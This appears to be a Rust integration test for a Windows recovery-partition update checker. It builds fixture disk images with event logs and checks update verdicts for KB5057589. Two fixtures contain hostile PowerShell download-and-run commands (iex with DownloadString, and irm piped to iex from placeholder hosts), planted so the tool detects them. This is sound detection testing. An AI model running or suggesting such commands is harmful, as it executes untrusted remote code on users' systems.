//! `winre history`, `scan --history`, `check --require-installed`, `winre updates` and
//! `--updates` / `WINRE_UPDATES` on disks built for each verdict: event logs written by
//! crates/core/tests/support/evtx_writer.rs (each checked with python-evtx first), SOFTWARE hives
//! written by hivex, volumes by mkntfs and wimlib-imagex (fixtures/make-history-disk.sh).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

#[path = "../crates/core/tests/support/evtx_writer.rs"]
mod evtx_writer;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use evtx_writer::*;
use serde_json::Value as Json;

const APRIL_2025: u64 = 1_744_106_400; // 2025-04-08T10:00:00Z
const KB5057589_TITLE: &str =
    "2025-04 Update for Windows 10 Version 22H2 for x64-based Systems (KB5057589)";
const LOGS: &str = "Windows/System32/winevt/Logs";

/// What one fixture disk holds.
struct Disk {
    name: &'static str,
    spbuild: u32,
    recovery_mib: u32,
    markers: &'static [&'static str],
    system: Vec<Event>,
    setup: Vec<Event>,
    powershell: Vec<Event>,
    history_lines: Option<&'static str>,
}

fn write_checked(path: &Path, events: &[Event]) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, write_log(events)).unwrap();
    let read = python_evtx(path, true);
    assert_eq!(
        read.len(),
        events.len(),
        "python-evtx reads {}",
        path.display()
    );
    for (theirs, ours) in read.iter().zip(events) {
        assert_eq!(theirs.0, ours.record_id);
        assert_eq!(theirs.1, ours.provider);
        assert_eq!(theirs.2, u32::from(ours.event_id));
    }
}

/// Builds (or finds in the cache) the disk and returns its path.
fn build(disk: &Disk) -> String {
    let tree = tempfile::tempdir().unwrap();
    let root = tree.path();
    let filler = |first: u64| -> Vec<Event> {
        (first..first + 50)
            .map(|id| scm(id, APRIL_2025 - 86_400 + id, "Windows Update"))
            .collect()
    };
    let mut system = filler(1);
    for (record_id, mut e) in (51..).zip(disk.system.iter().cloned()) {
        e.record_id = record_id;
        system.push(e);
    }
    write_checked(&root.join(LOGS).join("System.evtx"), &system);
    if !disk.setup.is_empty() {
        write_checked(&root.join(LOGS).join("Setup.evtx"), &disk.setup);
    }
    if !disk.powershell.is_empty() {
        write_checked(
            &root
                .join(LOGS)
                .join("Microsoft-Windows-PowerShell%4Operational.evtx"),
            &disk.powershell,
        );
    }
    if let Some(lines) = disk.history_lines {
        let dir = root.join("Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("ConsoleHost_history.txt"), lines).unwrap();
    }
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/make-history-disk.sh");
    let mut cmd = Command::new("bash");
    cmd.arg(script)
        .arg(root)
        .arg(disk.spbuild.to_string())
        .arg(disk.recovery_mib.to_string())
        .arg(format!("10.0.19041.{}", disk.spbuild))
        .args(disk.markers);
    let out = cmd.output().expect("run make-history-disk.sh");
    assert!(
        out.status.success(),
        "make-history-disk.sh ({}): {}",
        disk.name,
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn installed() -> Disk {
    Disk {
        name: "installed",
        spbuild: 5728,
        recovery_mib: 300,
        markers: &[],
        system: vec![
            wu(0, APRIL_2025, 43, KB5057589_TITLE, None),
            agent(
                0,
                APRIL_2025 + 300,
                4501,
                &[("Version", Value::Str("10.0.19041.5728".into()))],
            ),
            wu(0, APRIL_2025 + 360, 19, KB5057589_TITLE, None),
        ],
        setup: vec![],
        powershell: vec![script_block(
            1,
            APRIL_2025 + 900,
            "$u = 'https://winre-fix.example/repair.ps1'\niex (New-Object Net.WebClient).DownloadString($u)",
        )],
        history_lines: None,
    }
}

fn april_2025() -> Disk {
    Disk {
        name: "april-2025",
        spbuild: 5728,
        recovery_mib: 300,
        markers: &[],
        system: vec![
            wu(0, APRIL_2025, 43, KB5057589_TITLE, None),
            wu(0, APRIL_2025 + 60, 20, KB5057589_TITLE, Some(0x8007_0643)),
        ],
        setup: vec![],
        powershell: vec![],
        history_lines: Some(
            "reagentc /info\r\nirm https://fix-0x80070643.example/w | iex\r\nGet-HotFix\r\n",
        ),
    }
}

fn pending() -> Disk {
    Disk {
        name: "pending",
        spbuild: 3920,
        recovery_mib: 300,
        markers: &["reboot-pending", "packages-pending"],
        system: vec![
            wu(0, APRIL_2025, 43, KB5057589_TITLE, None),
            wu(0, APRIL_2025 + 60, 20, KB5057589_TITLE, Some(0x8007_0643)),
        ],
        setup: vec![reboot_needed(1, APRIL_2025 + 50, "KB5057589")],
        powershell: vec![],
        history_lines: None,
    }
}

fn no_space() -> Disk {
    Disk {
        name: "no-space",
        spbuild: 3920,
        recovery_mib: 100,
        markers: &[],
        system: vec![
            wu(0, APRIL_2025, 43, KB5057589_TITLE, None),
            agent(
                0,
                APRIL_2025 + 30,
                4502,
                &[
                    ("ErrorPhase", Value::U32(2)),
                    ("Errorcode", Value::Hex32(0x8007_0070)),
                ],
            ),
            wu(0, APRIL_2025 + 60, 20, KB5057589_TITLE, Some(0x8007_0643)),
        ],
        setup: vec![],
        powershell: vec![],
        history_lines: None,
    }
}

fn not_attempted() -> Disk {
    Disk {
        name: "not-attempted",
        spbuild: 3920,
        recovery_mib: 300,
        markers: &[],
        system: vec![],
        setup: vec![],
        powershell: vec![],
        history_lines: None,
    }
}

fn winre(args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_winre"));
    cmd.args(args).env_remove("WINRE_UPDATES");
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.output().expect("run winre")
}

fn history_json(img: &str) -> Json {
    let out = winre(&["history", "--json", img], &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("one JSON record")
}

fn verdict<'a>(record: &'a Json, kb: &str) -> &'a Json {
    record["history"]["verdicts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["kb"] == kb)
        .unwrap_or_else(|| panic!("no verdict for {kb}: {record}"))
}

#[test]
fn a_verdict_per_disk_with_its_evidence() {
    let cases: [(Disk, &str); 5] = [
        (installed(), "installed"),
        (april_2025(), "reported_failed_but_installed"),
        (pending(), "pending_restart"),
        (no_space(), "failed_for_space"),
        (not_attempted(), "not_offered"),
    ];
    let mut images = Vec::new();
    for (disk, expected) in &cases {
        let img = build(disk);
        let record = history_json(&img);
        let v = verdict(&record, "KB5057589");
        assert_eq!(v["verdict"], *expected, "{}: {v}", disk.name);
        // The table that judged it is named in the record.
        assert_eq!(record["update_table"]["date"], "2026-12-04");
        assert_eq!(record["update_table"]["sha256"].as_str().unwrap().len(), 64);
        assert_eq!(record["history"]["table"], record["update_table"]);
        let evidence: Vec<&str> = v["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e.as_str().unwrap())
            .collect();
        match disk.name {
            "installed" => {
                assert!(
                    evidence
                        .iter()
                        .any(|e| e.contains("WinREAgent event 4501")
                            && e.contains("10.0.19041.5728")),
                    "{evidence:?}"
                );
                // The older update of the family is installed too.
                assert_eq!(verdict(&record, "KB5034441")["verdict"], "installed");
                // The whole update history: the 43 and the 19, with times and record ids.
                let history = record["history"]["update_history"].as_array().unwrap();
                assert_eq!(history.len(), 2);
                assert_eq!(history[0]["event_id"], 43);
                assert_eq!(history[0]["record_id"], 51);
                assert_eq!(history[0]["time"], "2025-04-08T10:00:00Z");
                // The script block that downloads and runs code is listed, from its event.
                let ps = record["history"]["powershell"].as_array().unwrap();
                assert_eq!(ps.len(), 1, "{ps:?}");
                assert_eq!(ps[0]["pattern"], "download_and_run");
                assert_eq!(ps[0]["record_id"], 1);
                assert_eq!(ps[0]["line_number"], 2);
            }
            "april-2025" => {
                assert!(
                    evidence.iter().any(|e| e.contains("with 0x80070643")),
                    "{evidence:?}"
                );
                let ps = record["history"]["powershell"].as_array().unwrap();
                assert_eq!(ps.len(), 1, "{ps:?}");
                assert_eq!(ps[0]["profile"], r"Users\alice");
                assert_eq!(ps[0]["line_number"], 2);
                assert!(ps[0]["file"]
                    .as_str()
                    .unwrap()
                    .ends_with("ConsoleHost_history.txt"));
                assert_eq!(ps[0]["modified"], "2025-04-08T12:00:00Z");
            }
            "pending" => {
                assert!(
                    evidence.iter().any(|e| e.contains("RebootPending")),
                    "{evidence:?}"
                );
                assert!(
                    evidence.iter().any(|e| e.contains("Setup.evtx record 1")),
                    "{evidence:?}"
                );
                let markers = record["history"]["servicing"]["markers"]
                    .as_array()
                    .unwrap();
                assert_eq!(markers.len(), 2, "{markers:?}");
                assert!(markers[1]["detail"].as_str().unwrap().contains("KB5057589"));
            }
            "no-space" => {
                assert!(
                    evidence.iter().any(|e| e.contains("ErrorPhase 2")),
                    "{evidence:?}"
                );
            }
            _ => assert!(record["history"]["servicing"]["pending_restart"] == false),
        }
        images.push(img);
    }

    // check --require-installed: only the installed disk passes; pending and reported-failed fail.
    for (img, (disk, _)) in images.iter().zip(&cases) {
        let out = winre(
            &[
                "check",
                "--kb",
                "KB5057589",
                "--require-installed",
                "--min-free",
                "1B",
                img,
            ],
            &[],
        );
        let text = String::from_utf8_lossy(&out.stdout);
        if disk.name == "installed" {
            assert_eq!(out.status.code(), Some(0), "{text}");
        } else {
            assert_eq!(out.status.code(), Some(1), "{}: {text}", disk.name);
            assert!(text.contains("the verdict is"), "{text}");
        }
        // Without --require-installed the reported-failed disk passes on its version.
        if disk.name == "april-2025" {
            let out = winre(
                &["check", "--kb", "KB5057589", "--min-free", "1B", img],
                &[],
            );
            assert_eq!(out.status.code(), Some(0));
        }
    }

    // scan --history carries the same verdicts; scan without it reads less and has none.
    let out = winre(&["scan", "--json", "--history", &images[2]], &[]);
    let with: Json = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(verdict(&with, "KB5057589")["verdict"], "pending_restart");
    let out = winre(&["scan", "--json", &images[2]], &[]);
    let without: Json = serde_json::from_slice(&out.stdout).unwrap();
    assert!(without.get("history").is_none());
    assert!(without["stats"]["bytes_read"].as_u64() < with["stats"]["bytes_read"].as_u64());
    let text = winre(&["history", &images[1]], &[]);
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("reported_failed_but_installed"), "{text}");
    assert!(text.contains("0x80070643"), "{text}");

    // A newer table (WINRE_UPDATES) that raises the threshold turns "installed" into "failed":
    // Windows Update said installed, the image is below the new threshold.
    let dir = tempfile::tempdir().unwrap();
    let table = dir.path().join("newer.csv");
    std::fs::write(
        &table,
        "# table-date: 2027-01-01\n19041,KB5057589,2025-04-08,10.0.19041.9999,false,wim_version,test,\n",
    )
    .unwrap();
    let out = winre(
        &["history", "--json", &images[0]],
        &[("WINRE_UPDATES", table.to_str().unwrap())],
    );
    let record: Json = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(verdict(&record, "KB5057589")["verdict"], "failed");
    assert_eq!(record["update_table"]["date"], "2027-01-01");
    assert_eq!(record["update_table"]["origin"], table.to_str().unwrap());
}

#[test]
fn updates_lists_the_table_and_a_bad_table_names_its_line() {
    let out = winre(&["updates", "--family", "19045", "--json"], &[]);
    assert_eq!(out.status.code(), Some(0));
    let listed: Json = serde_json::from_slice(&out.stdout).unwrap();
    let rows = listed["updates"].as_array().unwrap();
    assert!(rows.iter().all(|r| r["family_build"] == 19041));
    let kb = rows.iter().find(|r| r["kb"] == "KB5034441").unwrap();
    assert_eq!(kb["min_version"], "10.0.19041.3920");
    assert_eq!(kb["threshold_kind"], "wim_version");
    assert_eq!(kb["confirmed"], true);
    assert!(kb["source_url"].as_str().unwrap().starts_with("https://"));
    let text = winre(&["updates"], &[]);
    assert!(String::from_utf8_lossy(&text.stdout).contains("KB5077180"));

    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.csv");
    std::fs::write(
        &bad,
        "# ok\n19041,KB1,2024,,true,wim_version,s,\n19041,KB2,2024,10.0.1.2,true,wim_version,s,\n",
    )
    .unwrap();
    let out = winre(&["--updates", bad.to_str().unwrap(), "updates"], &[]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("line 3"), "{err}");
    let missing: PathBuf = dir.path().join("none.csv");
    let out = winre(
        &["updates"],
        &[("WINRE_UPDATES", missing.to_str().unwrap())],
    );
    assert_eq!(out.status.code(), Some(2));
}
